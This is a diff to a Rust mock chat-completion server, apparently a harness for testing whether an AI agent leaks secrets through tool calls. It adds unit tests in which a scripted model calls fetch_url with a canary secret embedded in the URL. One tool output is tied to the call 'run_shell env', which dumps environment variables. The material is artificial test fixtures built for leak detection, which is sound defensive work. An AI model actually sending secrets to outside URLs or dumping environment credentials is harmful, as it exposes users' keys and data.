@@ -105,11 +105,9 @@ fn answer(request: &Request, turns: &[Vec<Call>], secrets: &[String], kept: &Mut
     let seen: Vec<&str> = secrets.iter().map(String::as_str).filter(|secret| told.contains(secret)).collect();
     let at = answers(&messages);
     let turn = body["tools"].is_array().then(|| turns.get(at)).flatten();
-    {
-        let mut kept = kept.lock().unwrap_or_else(PoisonError::into_inner);
-        if messages.len() > kept.len() {
-            *kept = messages;
-        }
+    // A request without tools is a question beside the conversation.
+    if body["tools"].is_array() {
+        *kept.lock().unwrap_or_else(PoisonError::into_inner) = messages;
     }
     let delta = match turn {
         Some(calls) => {
@@ -155,4 +153,50 @@ fn whole(message: &Value, reason: &str) -> Reply {
     let choices = json!([{"index": 0, "message": message, "finish_reason": reason}]);
     let body = json!({"id": "c", "object": "chat.completion", "choices": choices, "usage": usage()});
     Reply { status: "200 OK", kind: "application/json", body: body.to_string() }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SECRET: &str = "CANARY_1";
+
+    fn ask(messages: &Value, kept: &Mutex<Vec<Value>>) -> Value {
+        let body = json!({"messages": messages, "tools": []}).to_string().into_bytes();
+        let request = Request { head: String::new(), body };
+        let send =
+            Call { label: "send", name: "fetch_url", arguments: json!({"url": format!("http://a/{SEEN}")}) };
+        let reply = answer(&request, &[vec![], vec![send]], &[SECRET.to_owned()], kept);
+        serde_json::from_str::<Value>(&reply.body).unwrap()["choices"][0]["message"].take()
+    }
+
+    fn conversation(answers: usize, output: &str) -> Value {
+        let mut messages = vec![json!({"role": "assistant"}); answers];
+        messages.push(json!({"role": "tool", "tool_call_id": "literal-0-0", "content": output}));
+        json!(messages)
+    }
+
+    #[test]
+    fn a_call_carries_the_secret_that_the_model_saw_and_nothing_when_it_saw_none() {
+        let url = |output: &str| {
+            let message = ask(&conversation(1, output), &Mutex::default());
+            message["tool_calls"][0]["function"]["arguments"].to_string()
+        };
+        assert!(url(&format!("KEY={SECRET}")).contains(SECRET));
+        assert!(url("KEY=[hidden]").contains("nothing"));
+    }
+
+    #[test]
+    fn the_answer_tells_what_the_model_saw_and_outputs_know_their_calls() {
+        let kept = Mutex::default();
+        let message = ask(&conversation(2, SECRET), &kept);
+        assert_eq!(message["content"], format!("Done. {SECRET}"));
+        let messages = kept.into_inner().unwrap();
+        let told =
+            output(messages.last().unwrap(), &BTreeMap::from([("literal-0-0", "run_shell env".to_owned())]));
+        assert_eq!(
+            (&*told.label, told.turn, &*told.call, &*told.text),
+            ("literal", 0, "run_shell env", SECRET)
+        );
+    }
 }
